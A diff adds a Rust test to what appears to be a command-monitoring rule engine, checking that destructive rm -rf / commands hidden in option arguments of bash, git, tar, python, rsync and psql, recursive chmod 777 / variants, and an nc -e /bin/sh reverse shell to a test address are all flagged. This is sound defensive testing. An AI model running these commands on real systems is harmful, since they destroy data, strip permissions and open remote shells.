@@ -57,6 +57,36 @@ fn fits(conditions: &str, text: &str) -> bool {
 }
 
 #[test]
+fn built_in_rules_fit_what_options_in_arguments_run() {
+    let engine = engine("");
+    let judged = |line: &str| judge(&engine, line).1;
+    for argv in [
+        &["bash", "+x", "-c", "rm -rf /"][..],
+        &["-bash", "-c", "rm -rf /"],
+        &["git", "bisect", "run", "rm", "-rf", "/"],
+        &["git", "-C", "x", "rebase", "-x", "rm -rf /"],
+        &["tar", "cfI", "x.tar", "rm -rf /"],
+        &["python3", "-I", "-c", "import os; os.system('rm -rf /')"],
+        &["rsync", "-l", "-e", "rm -rf /", "a", "h:b"],
+        &["psql", "-a", "-c", "\\! rm -rf /"],
+    ] {
+        assert_eq!(
+            judged(&exec(argv)).as_deref(),
+            Some("destructive-rm"),
+            "{argv:?}"
+        );
+    }
+    let chmod = ["-R 777 /", "-v -R 777 /", "-vR 777 /"]
+        .map(|words| judged(&shell(&format!("chmod {words}"))));
+    assert!(
+        chmod.iter().all(|rule| rule.is_some() && *rule == chmod[0]),
+        "{chmod:?}"
+    );
+    let named = r#"{"process":{"exe":"/usr/bin/nc"},"event":{"ToolExec":{"pid":1,"argv":["-nc","-e","/bin/sh","192.0.2.1","9"]}}}"#;
+    assert_eq!(judged(named).as_deref(), Some("reverse-shell"));
+}
+
+#[test]
 fn a_command_is_found_whatever_its_spelling() {
     let push = r#"command { program = "git" words = ["push"] flags = ["-f", "--force", "+*"] }"#;
     for text in [
